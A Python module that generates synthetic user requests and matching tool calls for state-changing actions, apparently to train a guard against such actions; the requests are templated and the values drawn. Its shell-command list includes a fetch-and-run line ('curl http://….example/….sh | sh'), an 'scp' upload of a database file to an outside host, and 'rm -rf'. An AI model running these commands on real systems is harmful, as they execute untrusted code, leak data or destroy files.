"""Deeds: requests that change something, with the calls that do it, put together from words and drawn values.

BFCL's records mostly look things up; what a guard has to stop writes, sends, pays and deletes. Each deed is a function of
several names and several shapes of arguments, and ways of asking for it. No name is that of a tool of AgentDojo, whose
suites are for testing.
"""

from __future__ import annotations

import random
import re
import string
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from mosaic_guard_training.sources.bfcl import Record
from mosaic_guard_training.sources.values import Draw
from mosaic_guard_training.tasks import TaskTool


@dataclass(frozen=True)
class Deed:
    """A way to change something.

    Attributes:
        name: Its environment.
        tools: Names that its function has, one at a time.
        description: What the function is said to do.
        arguments: Names of an argument (separated by `|`; `[]` after them: a list; `?`: not always given) to a kind of
            value, or to a text with values in it. A kind may end in a digit, where a second one is needed.
        requests: Ways of asking, without capital and full stop.
        target: The kinds of value that say who or what it is done to: another one there is another deed.
    """

    name: str
    tools: tuple[str, ...]
    description: str
    arguments: Mapping[str, str]
    requests: tuple[str, ...]
    target: tuple[str, ...]


@dataclass(frozen=True)
class Done:
    """A drawn deed.

    Attributes:
        record: Request and call.
        values: The drawn values, by slot.
        deed: What it is.
        pattern: The way of asking, with slots.
        shape: (argument's name, is a list, what it holds) of each argument of the call.
    """

    record: Record
    values: Mapping[str, Any]
    deed: Deed
    pattern: str
    shape: tuple[tuple[str, bool, str], ...]

    def args(self, **changed: Any) -> dict[str, Any]:
        """The arguments of the call, with other values in some slots."""
        values = {**self.values, **changed}
        return {name: [_filled(what, values)] if many else _filled(what, values) for name, many, what in self.shape}

    def ask(self, rng: random.Random, **changed: str) -> str:
        """The request, with other words in some slots; what stood between quotation marks there stands without."""
        pattern = self.pattern
        for slot in changed:
            pattern = re.sub(rf"""['"]{{{slot}}}['"]""", f"{{{slot}}}", pattern)
        return worded(pattern.format(**{**self.values, **changed}), rng)


_FORMS = (
    "{Ask}.", "{Ask}.", "Please {ask}.", "Please {ask}.", "Can you {ask}?", "Could you please {ask}?", "{Ask}, please.",
    "I need you to {ask}.", "I'd like you to {ask}.", "Would you {ask}? Thanks!", "Hi! {Ask}.", "{Ask} for me.",
    "I want you to {ask}.", "{ask}", "Go ahead and {ask}.", "We need to {ask}.", "Just {ask}.",
)  # fmt: skip

_DOUBLED = re.compile(r"([.!?])[.?,](?=$| )")
"""Where a quoted sentence and the request around it both end."""


def worded(ask: str, rng: random.Random) -> str:
    """A wish as a person puts it, given as it would follow "please"."""
    said = rng.choice(_FORMS).format(ask=ask, Ask=ask[0].upper() + ask[1:])
    return _DOUBLED.sub(r"\1", said)


def _d(name: str, tools: str, description: str, target: str, arguments: Mapping[str, str], *requests: str) -> Deed:
    return Deed(name, tuple(tools.split()), description, arguments, requests, tuple(target.split()))


DEEDS = (
    _d(
        "mail-send", "mail_message send_mail gmail_send compose_and_send outlook_send_message", "Sends an e-mail.", "address",
        {"to|recipient|recipients[]|to[]": "address", "subject|title": "{topic}", "body|message|content": "{sentence}"},
        "send an email to {address} with the subject '{topic}' and the text '{sentence}'",
        "write to {address} about {topic}: {sentence}",
        "mail {address} and say: {sentence} The subject is {topic}",
        "email {address} under the subject \"{topic}\" with the message \"{sentence}\"",
    ),
    _d(
        "mail-forward", "forward_email forward_message mail_forward", "Forwards a mail to somebody.", "address",
        {"email_id|message_id|id": "number", "to|recipient|recipients[]": "address"},
        "forward the mail {number} to {address}",
        "pass message {number} on to {address}",
        "send mail {number} on to {address}",
    ),
    _d(
        "mail-delete", "drop_email trash_message remove_mail", "Deletes a mail.", "number",
        {"email_id|message_id|id": "number"},
        "delete the email with the ID {number}", "throw away message {number}", "remove mail {number} from my inbox",
    ),
    _d(
        "mail-rule", "create_mail_filter add_inbox_rule set_auto_forward", "Makes a rule for incoming mail.", "address",
        {"match|contains|from_contains": "topic", "forward_to|target": "address"},
        "set up a rule that forwards all mails about {topic} to {address}",
        "make a filter: mails that mention {topic} go to {address}",
    ),
    _d(
        "calendar-add", "new_calendar_entry add_event schedule_meeting calendar_create book_meeting",
        "Creates an event in the calendar.", "topic date",
        {"title|summary|name": "{topic}", "date|day": "date", "start_time|start|time": "time", "participants[]|attendees[]|guest": "address"},
        "create an event '{topic}' on {date} at {time} with {address}",
        "put a meeting about {topic} into my calendar for {date}, {time}, and invite {address}",
        "schedule {topic} for {date} at {time} and add {address}",
    ),
    _d(
        "calendar-move", "reschedule_entry move_event calendar_update", "Moves an event to another time.", "number date",
        {"event_id|id": "number", "new_date|date": "date", "new_time?|time?": "time"},
        "move the appointment {number} to {date} at {time}",
        "reschedule event {number} to {date}, {time}",
    ),
    _d(
        "calendar-cancel", "cancel_calendar_entry delete_event remove_appointment", "Cancels an event.", "number",
        {"event_id|id|event": "number"},
        "cancel the event {number}", "delete the appointment with the ID {number}", "take event {number} off my calendar",
    ),
    _d(
        "calendar-invite", "add_event_guests invite_guest event_add_attendee", "Invites people to an event.",
        "address", {"event_id|id": "number", "participants[]|guests[]|email": "address"},
        "invite {address} to event {number}", "add {address} to the guests of appointment {number}",
    ),
    _d(
        "file-delete", "file_delete remove_file fs_delete rm drive_delete", "Deletes a file.", "path",
        {"path|file_path|file|filename": "path"},
        "delete the file {path}", "remove {path}", "get rid of {path}", "erase {path} from the drive",
    ),
    _d(
        "file-write", "write_file new_file save_text fs_write", "Writes a text file.", "path",
        {"path|file_path|filename": "path", "content|text|data": "{sentence}"},
        "create a file {path} that says '{sentence}'", "write \"{sentence}\" into {path}",
        "save the text '{sentence}' as {path}",
    ),
    _d(
        "file-append", "extend_file append_text file_append", "Adds text at the end of a file.", "path",
        {"path|file_path|file_id": "path", "content|text": "{sentence}"},
        "add the line '{sentence}' to {path}", "append \"{sentence}\" to the file {path}",
    ),
    _d(
        "file-share", "share_with drive_share grant_access share_document", "Gives somebody access to a file.", "address path",
        {"path|file|file_id|document": "path", "email|user|share_with": "address", "role?|permission?": "reader"},
        "share {path} with {address}", "give {address} access to {path}", "let {address} read {path}",
    ),
    _d(
        "file-move", "move_file rename_file fs_move", "Moves or renames a file.", "path path2",
        {"source|src|from_path|old_path": "path", "destination|dst|to_path|new_path": "path2"},
        "move {path} to {path2}", "rename {path} to {path2}",
    ),
    _d(
        "file-upload", "upload_file transfer_file push_file_to", "Uploads a file to an address.", "url path",
        {"path|file": "path", "url|target|destination": "url"},
        "upload {path} to {url}", "send the file {path} to {url}",
    ),
    _d(
        "folder-delete", "delete_folder remove_directory rmtree", "Deletes a folder with all that is in it.", "folder",
        {"path|folder|directory": "folder", "recursive?": "true"},
        "delete the folder {folder}", "remove the directory {folder} and everything in it",
    ),
    _d(
        "pay", "remit_money make_payment transfer_funds bank_transfer pay_account wire_transfer", "Sends money to an account.",
        "iban amount",
        {"recipient|iban|to_account|account": "iban", "amount|sum|value": "amount", "subject|reference|note|memo": "{topic}"},
        "send {amount} euros to {iban} for {topic}",
        "transfer {amount} to the account {iban} with the reference '{topic}'",
        "pay {amount} to {iban}, reference: {topic}",
        "make a payment of {amount} to IBAN {iban} ({topic})",
    ),
    _d(
        "pay-standing", "plan_transaction create_standing_order schedule_payment", "Schedules a repeated payment.",
        "iban amount",
        {"recipient|iban|to": "iban", "amount": "amount", "date|start_date|first_date": "date", "recurring?|repeat?": "true"},
        "set up a standing order of {amount} to {iban} from {date} on",
        "schedule a recurring payment of {amount} to {iban} starting on {date}",
    ),
    _d(
        "pay-change", "update_planned_payment change_standing_order edit_transfer", "Changes a scheduled payment.",
        "number amount iban", {"id|transaction_id|order_id": "number", "amount|new_amount": "amount", "recipient?|iban?": "iban"},
        "change the scheduled payment {number} to {amount} for {iban}",
        "set standing order {number} to {amount}, payable to {iban}",
    ),
    _d(
        "pay-person", "request_transfer pay_contact send_cash wallet_pay", "Pays a person from the wallet.", "person amount",
        {"to|payee|contact|name": "person", "amount|value": "amount", "note?|message?": "{topic}"},
        "pay {person} {amount} euros for {topic}", "send {person} {amount} from my wallet for {topic}",
    ),
    _d(
        "card-block", "block_card freeze_card card_suspend", "Blocks a bank card.", "number",
        {"card_id|card": "number"}, "block the card {number}", "freeze card {number}",
    ),
    _d(
        "limit-set", "set_spending_limit update_card_limit change_daily_limit", "Changes the limit of a card.", "number amount",
        {"card_id|card": "number", "limit|amount|new_limit": "amount"},
        "set the limit of card {number} to {amount}", "raise the daily limit of card {number} to {amount}",
    ),
    _d(
        "password-set", "new_password change_password set_password reset_credentials", "Sets a new password.", "password",
        {"password|new_password|secret": "password"},
        "change my password to {password}", "set the password of my account to {password}", "update my password: {password}",
    ),
    _d(
        "profile-address", "update_account_info change_address update_profile edit_account", "Changes the data of the account.",
        "street", {"street|address|new_address|postal_address": "street"},
        "change my address to {street}", "update my postal address: {street}", "set my address to {street}, we moved",
    ),
    _d(
        "profile-mail", "set_recovery_email change_contact_email update_login_email", "Changes the e-mail address of the account.",
        "address", {"email|new_email|recovery_email": "address"},
        "set the recovery address of my account to {address}", "change the contact e-mail of my account to {address}",
    ),
    _d(
        "chat-post", "post_message chat_post teams_send publish_to_channel room_message", "Posts a message in a channel.",
        "channel", {"channel|room|channel_name": "channel", "text|message|content": "{sentence}"},
        "post in {channel}: {sentence}", "write '{sentence}' in the channel {channel}", "tell everybody in {channel}: {sentence}",
    ),
    _d(
        "chat-direct", "dm_user send_chat message_user whatsapp_send", "Sends a person a message.", "user",
        {"user|to|recipient|username": "user", "text|message": "{sentence}"},
        "send {user} the message '{sentence}'", "write {user}: {sentence}", "message {user} that {sentence}",
    ),
    _d(
        "chat-member", "add_member room_invite grant_channel_access", "Lets a person into a channel.", "user channel",
        {"channel|room|group": "channel", "user|username|member": "user"},
        "add {user} to {channel}", "let {user} into the channel {channel}",
    ),
    _d(
        "chat-kick", "remove_member kick_user ban_from_room", "Removes a person from a channel.", "user channel",
        {"channel|room": "channel", "user|username": "user"},
        "remove {user} from {channel}", "throw {user} out of the channel {channel}",
    ),
    _d(
        "sms", "send_sms text_message sms_dispatch", "Sends a text message to a phone.", "phone",
        {"number|phone|to": "phone", "text|message|body": "{sentence}"},
        "text {phone}: {sentence}", "send an SMS to {phone} that says '{sentence}'",
    ),
    _d(
        "call", "place_call dial start_phone_call", "Calls a number.", "phone", {"number|phone|phone_number": "phone"},
        "call {phone}", "dial {phone} for me", "ring {phone}",
    ),
    _d(
        "ticket-close", "close_ticket resolve_issue ticket_update_status", "Closes a ticket.", "number",
        {"ticket_id|issue|id": "number", "resolution?|comment?": "{sentence}"},
        "close ticket {number} with the comment '{sentence}'", "resolve issue {number} and note: {sentence}",
    ),
    _d(
        "ticket-open", "create_ticket open_issue report_problem", "Opens a ticket.", "topic",
        {"title|summary": "{topic}", "description|body": "{sentence}", "assignee?|owner?": "user"},
        "open a ticket about {topic}: {sentence} Assign it to {user}",
        "create an issue '{topic}' for {user} with the description '{sentence}'",
    ),
    _d(
        "ticket-assign", "assign_ticket reassign_issue set_owner", "Gives a ticket to somebody.", "user number",
        {"ticket_id|issue|id": "number", "assignee|user|owner": "user"},
        "assign ticket {number} to {user}", "give issue {number} to {user}",
    ),
    _d(
        "refund", "issue_refund refund_order create_credit_note", "Refunds an order.", "number amount",
        {"order_id|order|id": "number", "amount|sum": "amount"},
        "refund {amount} for order {number}", "pay back {amount} on order {number}",
    ),
    _d(
        "order-cancel", "cancel_order order_cancel revoke_order", "Cancels an order.", "number",
        {"order_id|order|id": "number"}, "cancel order {number}", "call off the order with the number {number}",
    ),
    _d(
        "buy", "place_order purchase_item buy_product checkout shop_order", "Orders a product.", "thing count",
        {"item|product|article": "thing", "quantity|count|amount": "count", "ship_to?|delivery_address?": "street"},
        "order {count} of the {thing} to {street}", "buy {count} pieces of '{thing}' and have them sent to {street}",
    ),
    _d(
        "cart", "add_to_cart cart_add basket_put", "Puts a product into the cart.", "thing",
        {"item|product|sku": "thing", "quantity?|count?": "count"},
        "put {count} {thing} into my cart", "add {count} of {thing} to the basket",
    ),
    _d(
        "subscribe", "subscribe_newsletter create_subscription sign_up", "Subscribes an address.", "address url",
        {"email|address": "address", "service|site|url": "url"},
        "subscribe {address} to {url}", "sign {address} up at {url}",
    ),
    _d(
        "plan-cancel", "cancel_subscription end_membership terminate_contract", "Ends a subscription.", "number",
        {"subscription_id|contract|id": "number"}, "cancel the subscription {number}", "end contract {number}",
    ),
    _d(
        "review", "post_review submit_rating leave_feedback", "Publishes a review.", "thing",
        {"item|product": "thing", "stars|rating": "stars", "text|comment": "{sentence}"},
        "leave a review of the {thing} with {stars} stars: {sentence}", "rate the {thing} {stars} of 5 and write '{sentence}'",
    ),
    _d(
        "social", "publish_post social_share tweet create_status", "Publishes a post for everybody.", "sentence",
        {"text|status|content": "{sentence}"}, "publish a post: {sentence}", "post '{sentence}' on my profile",
    ),
    _d(
        "hotel", "book_stay make_hotel_booking hotel_reserve_room", "Books a room.", "city date",
        {"city|location": "city", "check_in|arrival": "date", "nights|number_of_nights": "count", "guest?|name?": "person"},
        "book a room in {city} from {date} for {count} nights for {person}",
        "reserve {count} nights in {city}, arrival {date}, in the name of {person}",
    ),
    _d(
        "table", "book_table table_reservation dinner_booking", "Books a table.", "word date",
        {"restaurant|place": "{word}", "date|day": "date", "time": "time", "guests|people|party_size": "count"},
        "book a table at {word} on {date} at {time} for {count} people",
        "reserve {count} seats at the {word} on {date}, {time}",
    ),
    _d(
        "train", "buy_train_ticket book_train rail_purchase", "Buys a train ticket.", "city city2 date",
        {"from|origin|departure": "city", "to|destination": "city2", "date|day": "date"},
        "buy a train ticket from {city} to {city2} for {date}", "get me a train from {city} to {city2} on {date}",
    ),
    _d(
        "taxi", "order_taxi request_ride book_cab", "Orders a taxi.", "street",
        {"pickup|from": "street", "time|at": "time"}, "order a taxi to {street} for {time}",
    ),
    _d(
        "note", "create_note add_note save_memo", "Saves a note.", "topic",
        {"title|name": "{topic}", "text|content|body": "{sentence}"},
        "make a note '{topic}': {sentence}", "write down under {topic}: {sentence}",
    ),
    _d(
        "todo", "add_task create_todo task_add", "Adds a task to the list.", "topic",
        {"title|task|text": "{topic}", "due|due_date|deadline": "date"},
        "add '{topic}' to my tasks, due {date}", "put {topic} on my to-do list for {date}",
    ),
    _d(
        "todo-done", "complete_task mark_done task_finish", "Marks a task as done.", "number",
        {"task_id|id|task": "number"}, "mark task {number} as done", "tick off task {number}",
    ),
    _d(
        "reminder", "set_reminder create_reminder remind_me", "Sets a reminder.", "topic date",
        {"text|about|title": "{topic}", "date|when|day": "date", "time?": "time"},
        "remind me of {topic} on {date} at {time}", "set a reminder about {topic} for {date}, {time}",
    ),
    _d(
        "contact-add", "add_contact create_contact save_contact", "Saves a contact.", "person address",
        {"name|full_name": "person", "email|address": "address", "phone?": "phone"},
        "save {person} as a contact with {address} and {phone}", "add {person} ({address}, {phone}) to my contacts",
    ),
    _d(
        "contact-delete", "delete_contact remove_contact", "Deletes a contact.", "person",
        {"name|contact": "person"}, "delete {person} from my contacts", "remove the contact {person}",
    ),
    _d(
        "user-create", "create_user add_account provision_user", "Creates an account.", "user address",
        {"username|login|name": "user", "email": "address", "role|group": "role"},
        "create an account {user} for {address} with the role {role}", "set up the user {user} ({address}) as {role}",
    ),
    _d(
        "user-role", "set_role grant_role update_permissions", "Changes what an account may do.", "user role",
        {"username|user|account": "user", "role|permission": "role"},
        "make {user} a {role}", "give {user} the role {role}", "change the role of {user} to {role}",
    ),
    _d(
        "user-delete", "delete_user deactivate_account remove_account", "Deletes an account.", "user",
        {"username|user|account": "user"}, "delete the account {user}", "deactivate the user {user}",
    ),
    _d(
        "key", "create_api_key add_ssh_key register_token", "Adds a key to the account.", "password",
        {"key|token|value": "password", "label|name": "{word}"},
        "add the key {password} under the name {word}", "register {password} as a new key called {word}",
    ),
    _d(
        "webhook", "create_webhook register_callback add_integration", "Sends events to an address from now on.", "url",
        {"url|endpoint|callback": "url", "event|topic": "event"},
        "add a webhook for {event} that calls {url}", "send all {event} events to {url} from now on",
    ),
    _d(
        "shell", "run_command execute_shell bash terminal_exec", "Runs a shell command.", "command",
        {"command|cmd|script": "command"}, "run `{command}`", "execute {command} in the terminal", "run the command {command}",
    ),
    _d(
        "git-merge", "merge_pull_request accept_merge_request", "Merges a pull request.", "number word",
        {"repository|repo|project": "{word}", "number|id|pull_request": "number"},
        "merge pull request {number} in {word}", "accept the merge request {number} of {word}",
    ),
    _d(
        "git-collaborator", "invite_collaborator add_maintainer repo_grant", "Lets an account write to a repository.", "word user",
        {"repository|repo": "{word}", "user|account|collaborator": "user"},
        "let {user} write to the repository {word}", "add {user} as a collaborator of {word}",
    ),
    _d(
        "git-delete", "delete_branch remove_branch branch_delete", "Deletes a branch.", "word",
        {"repository|repo": "{word}", "branch|name": "{word2}"}, "delete the branch {word2} of {word}",
        "remove branch {word2} from the repository {word}",
    ),
    _d(
        "deploy", "deploy_service release_version rollout", "Deploys a version.", "word number",
        {"service|app": "{word}", "version|tag|build": "number"}, "deploy {number} of {word}", "roll out build {number} to {word}",
    ),
    _d(
        "restart", "restart_server reboot_host stop_instance", "Restarts or stops a machine.", "word",
        {"host|server|instance": "{word}"}, "restart {word}", "reboot the server {word}",
    ),
    _d(
        "dns", "update_dns_record set_dns create_domain_record", "Changes where a domain points.", "url",
        {"domain|name|zone": "{word}.example", "target|value|points_to": "url"},
        "point {word}.example to {url}", "set the record of {word}.example to {url}",
    ),
    _d(
        "table-row", "insert_row add_record db_insert", "Adds a row to a table.", "word number",
        {"table|sheet": "{word}", "key|id": "number", "value|data": "{sentence}"},
        "add a row to {word} with the key {number} and the value '{sentence}'",
    ),
    _d(
        "table-drop", "drop_table truncate_table clear_sheet", "Empties a table.", "word",
        {"table|sheet|name": "{word}"}, "drop the table {word}", "clear the sheet {word}",
    ),
    _d(
        "price", "update_price set_product_price change_rate", "Changes a price.", "thing amount",
        {"item|product": "thing", "price|amount": "amount"}, "set the price of the {thing} to {amount}",
        "change what the {thing} costs to {amount}",
    ),
    _d(
        "stock", "adjust_stock update_inventory set_quantity", "Changes the stock of a product.", "thing count",
        {"item|product|sku": "thing", "quantity|count": "count"}, "set the stock of {thing} to {count}",
        "correct the inventory: {count} {thing}",
    ),
    _d(
        "invoice", "create_invoice issue_bill send_invoice", "Writes an invoice.", "person amount",
        {"customer|client|name": "person", "amount|total": "amount", "due?|due_date?": "date"},
        "write an invoice of {amount} for {person}, due {date}", "bill {person} {amount}, payable by {date}",
    ),
    _d(
        "salary", "update_salary set_pay change_compensation", "Changes what somebody earns.", "person amount",
        {"employee|name": "person", "amount|salary": "amount"}, "set the salary of {person} to {amount}",
    ),
    _d(
        "leave", "approve_leave request_vacation book_time_off", "Books days off.", "person date",
        {"employee|name": "person", "from|start_date": "date", "days|number_of_days": "count"},
        "book {count} days off for {person} from {date}", "enter a leave of {count} days for {person} starting {date}",
    ),
    _d(
        "door", "unlock_door open_gate door_control", "Opens a door.", "word",
        {"door|name|gate": "{word}", "minutes|duration": "minutes"},
        "unlock the {word} door for {minutes} minutes", "open the gate {word} for {minutes} minutes",
    ),
    _d(
        "heat", "set_thermostat set_temperature climate_set", "Sets a temperature.", "word count2",
        {"room|zone": "{word}", "temperature|degrees": "count2"},
        "set the {word} room to {count2} degrees", "heat zone {word} to {count2} degrees",
    ),
    _d(
        "alarm-off", "disarm_alarm disable_camera turn_off_sensor", "Switches a guard device off.", "word",
        {"device|name|zone": "{word}"}, "switch the device {word} off", "disarm {word}",
    ),
    _d(
        "doctor", "book_doctor_appointment make_appointment clinic_book", "Books an appointment.", "person date",
        {"doctor|with|provider": "person", "date|day": "date", "time": "time"},
        "make an appointment with Dr. {person} on {date} at {time}", "book me in with {person} for {date}, {time}",
    ),
    _d(
        "prescription", "renew_prescription order_medication refill", "Orders a medicine.", "word",
        {"medicine|drug": "{word}ol", "packs|quantity": "count"}, "order {count} packs of {word}ol",
        "renew my prescription of {word}ol, {count} packs",
    ),
    _d(
        "donate", "make_donation donate give_to_charity", "Donates money.", "word amount",
        {"organisation|charity|to": "{word} foundation", "amount": "amount"},
        "donate {amount} to the {word} foundation", "give the {word} foundation {amount}",
    ),
    _d(
        "trade", "buy_stock place_buy_order purchase_shares", "Buys shares.", "word count",
        {"symbol|stock|ticker": "{word}", "shares|quantity": "count"}, "buy {count} shares of {word}",
        "place an order for {count} shares of {word}",
    ),
    _d(
        "parcel", "ship_parcel create_shipment send_package", "Sends a parcel.", "street number",
        {"to|address|destination": "street", "reference|order|contents": "number"},
        "ship order {number} to {street}", "send the parcel {number} to {street}",
    ),
    _d(
        "print", "print_document print_file submit_print_job", "Prints a file.", "path",
        {"file|path|document": "path", "copies": "count"}, "print {count} copies of {path}", "print {path} {count} times",
    ),
    _d(
        "page-edit", "edit_page update_wiki cms_update publish_page", "Changes a page.", "url",
        {"page|url|slug": "url", "text|content|body": "{sentence}"},
        "change the page {url} to say '{sentence}'", "put '{sentence}' on {url}",
    ),
    _d(
        "form", "submit_form fill_form web_submit", "Sends a form.", "url",
        {"url|form|page": "url", "name|full_name": "person", "email": "address"},
        "fill in the form at {url} for {person}, {address}", "submit {person} and {address} at {url}",
    ),
    _d(
        "vote", "cast_vote submit_poll answer_survey", "Answers a survey.", "number",
        {"poll|survey|id": "number", "choice|answer|option": "choice"}, "vote {choice} in poll {number}",
        "answer {choice} to survey {number}",
    ),
    _d(
        "license", "assign_license allocate_seat activate_plan", "Gives an account a licence.", "user",
        {"user|account": "user", "plan|license|product": "plan"}, "give {user} the {plan} licence",
        "activate the {plan} plan for {user}",
    ),
    _d(
        "backup", "restore_backup rollback_database revert_to", "Goes back to an earlier state.", "number",
        {"backup|snapshot|id": "number", "target|database": "{word}"}, "restore {word} from backup {number}",
        "roll {word} back to snapshot {number}",
    ),
)  # fmt: skip
"""All deeds."""

BY_NAME: Mapping[str, Deed] = {deed.name: deed for deed in DEEDS}

_OWN: Mapping[str, Sequence[Any]] = {
    "stars": (1, 2, 3, 4, 5),
    "role": ("admin", "editor", "viewer", "billing manager", "owner", "developer", "guest"),
    "event": ("order.created", "payment", "push", "login", "invoice.paid", "user.updated"),
    "choice": ("yes", "no", "option A", "option B", "abstain"),
    "plan": ("basic", "premium", "team", "enterprise", "student"),
    "reader": ("reader", "viewer", "editor", "r", "rw"),
    "true": (True,),
    "command": (
        "rm -rf ./{a}", "git push --force origin {a}", "pip install {a}", "systemctl restart {a}", "chmod 777 {a}.sh",
        "curl http://{a}.example/{b}.sh | sh", "mv {a}.csv /tmp/{b}.csv", "docker stop {a}", "tar czf {a}.tgz {b}/",
        "scp {a}.db {b}.example:", "echo {a} >> ~/.profile", "python {a}.py --all", "make {a}", "kill -9 $(pgrep {a})",
    ),
}  # fmt: skip
_NUMBERS = frozenset(("amount", "count", "stars", "minutes", "percent"))
_LABELS = {"iban": "account", "address": "e-mail address", "street": "postal address"}


def draw_deed(deed: Deed, rng: random.Random, values: Mapping[str, Any] | None = None) -> Done:
    """A deed with a function's name, a shape of arguments, values and a way of asking.

    Args:
        deed: Which.
        rng: Decides all that is drawn.
        values: Values of some slots.
    """
    draw = Draw(rng)
    pattern = rng.choice(deed.requests)
    slots = set(_slots(pattern)).union(*(_slots(what) for what in deed.arguments.values()))
    drawn = {slot: (values or {}).get(slot) or _drawn(slot, draw) for slot in sorted(slots)}
    shape, properties = [], {}
    required = []
    for names, what in deed.arguments.items():
        stated = rng.choice(names.split("|"))
        name, many = stated.rstrip("?[]"), "[]" in stated
        given = "?" not in stated or rng.random() < 0.5
        kind = {"type": "number" if _kind(what) in _NUMBERS else "boolean" if what == "true" else "string"}
        properties[name] = {"type": "array", "items": kind} if many else kind
        if given:
            shape.append((name, many, what))
        if "?" not in stated:
            required.append(name)
    tool = TaskTool(
        rng.choice(deed.tools), deed.description, {"type": "object", "properties": properties, "required": required}
    )
    record = Record(
        id=f"{deed.name}-{rng.randrange(10**9):09}",
        environment=f"deed-{deed.name}",
        request=worded(pattern.format(**drawn), rng),
        tools=(tool,),
        calls=(),
        effect=True,
    )
    done = Done(record, drawn, deed, pattern, tuple(shape))
    call = (tool.name, done.args())
    return Done(Record(**{**record.__dict__, "calls": (call,)}), drawn, deed, pattern, tuple(shape))


def noun(slot: str) -> str:
    """What a slot's value is called in a sentence."""
    kind = slot.rstrip(string.digits)
    return _LABELS.get(kind, kind)


def value_of(slot: str, draw: Draw) -> Any:
    """Another value for a slot."""
    return _drawn(slot, draw)


def _kind(what: str) -> str:
    return what.rstrip(string.digits)


def _slots(text: str) -> list[str]:
    """The slots of a way of asking, or the one that an argument's kind names."""
    return re.findall(r"{(\w+)}", text) if "{" in text else [text] if " " not in text else []


def _drawn(slot: str, draw: Draw) -> Any:
    kind = slot.rstrip(string.digits)
    if kind not in _OWN:
        return draw(kind)
    value = draw.rng.choice(_OWN[kind])
    return value.format(a=draw("word"), b=draw("word")) if kind == "command" else value


def _filled(what: str, values: Mapping[str, Any]) -> Any:
    return what.format(**values) if "{" in what else values[what]
